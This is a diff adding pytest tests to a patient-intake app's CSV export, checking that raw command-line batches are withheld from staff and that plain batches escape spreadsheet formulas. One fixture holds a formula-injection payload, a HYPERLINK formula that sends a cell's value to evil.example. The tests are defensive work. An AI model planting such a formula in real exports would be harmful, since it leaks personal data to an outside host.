@@ -1,10 +1,12 @@
 """The staff side's "Export CSV": new submissions as a batch, a batch again, a date range."""
 
 import hashlib
+import shlex
 from datetime import UTC, datetime, timedelta
 
 from sqlalchemy import select
 
+from intake import ehr
 from intake.extensions import db
 from intake.models import ExportBatch, Submission
 from tests.csv_reading import BOM, HOSTILE, parse
@@ -76,6 +78,83 @@ def test_export_new_downloads_marks_and_can_be_downloaded_again(app, client):
     assert all(
         e["actor_id"] == user_id for e in audit_events(app) if e["action"].startswith("export")
     )
+
+
+FORMULA_ADDRESS = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
+
+
+def _cli_export(app, runner, path, *options: str):
+    """A new batch made on the command line into `path`; returns the batch."""
+    result = runner.invoke(args=["intake", "export-csv", *options, "-o", str(path)])
+    assert result.exit_code == 0, result.output
+    with app.app_context():
+        (batch,) = ehr.recent_batches(1)
+        return batch
+
+
+def test_raw_cli_batch_is_listed_with_its_command_and_never_served_to_staff(
+    app, client, runner, tmp_path
+):
+    user_id = add_staff(app)
+    add_submission(app, {"address": FORMULA_ADDRESS})
+    raw_file = tmp_path / "import.csv"
+    batch = _cli_export(app, runner, raw_file, "--raw")
+    assert '"=HYPERLINK(' in raw_file.read_text(encoding="utf-8")  # raw, as asked
+    with app.app_context():
+        command = ehr.batch_command(ehr.find_batch(batch.public_id))
+    log_in(client)
+
+    # Listed, marked as machine import with the command that writes it, and no download link.
+    page = client.get("/staff/exports").get_data(as_text=True)
+    assert "Machine import only" in page
+    assert command in page
+    assert f"/staff/exports/{batch.public_id}.csv" not in page
+
+    # Asked for by its address anyway: refused with a page that says why, and no CSV.
+    response = client.get(f"/staff/exports/{batch.public_id}.csv")
+    assert response.status_code == 403
+    assert response.headers["Content-Type"].startswith("text/html")
+    assert "Content-Disposition" not in response.headers
+    body = response.get_data(as_text=True)
+    assert "This batch is for machine import only" in body
+    assert command in body
+    assert "HYPERLINK" not in body and "evil.example" not in body
+
+    refused = [e for e in audit_events(app, "export.download") if e["actor_type"] == "staff"]
+    assert [(e["actor_id"], e["target_id"], e["outcome"]) for e in refused] == [
+        (user_id, str(batch.public_id), "refused")
+    ]
+
+    # The command shown writes the same raw file again, byte for byte.
+    flask, app_option, module, *args = shlex.split(command)
+    assert (flask, app_option, module) == ("flask", "--app", "wsgi")
+    again = tmp_path / "again"
+    again.mkdir()
+    args[args.index("-o") + 1] = str(again / args[args.index("-o") + 1])
+    result = runner.invoke(args=args)
+    assert result.exit_code == 0, result.output
+    assert next(again.iterdir()).read_bytes() == raw_file.read_bytes()
+
+
+def test_cli_batch_that_is_not_raw_downloads_again_byte_for_byte(app, client, runner, tmp_path):
+    user_id = add_staff(app)
+    add_submission(app, {"address": FORMULA_ADDRESS})
+    plain_file = tmp_path / "plain.csv"
+    batch = _cli_export(app, runner, plain_file)
+    log_in(client)
+    page = client.get("/staff/exports").get_data(as_text=True)
+    assert f"/staff/exports/{batch.public_id}.csv" in page
+    response = client.get(f"/staff/exports/{batch.public_id}.csv")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"].startswith("text/csv")
+    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
+    data = response.get_data()
+    assert data == plain_file.read_bytes()
+    assert hashlib.sha256(data).hexdigest() == batch.sha256
+    _header, (row,) = parse(data)
+    assert row["address"] == "'" + FORMULA_ADDRESS
+    downloads = [e for e in audit_events(app, "export.download") if e["actor_type"] == "staff"]
+    assert [(e["actor_id"], e["outcome"]) for e in downloads] == [(user_id, "success")]
 
 
 def test_export_new_without_a_token_is_refused_and_marks_nothing(app, client):
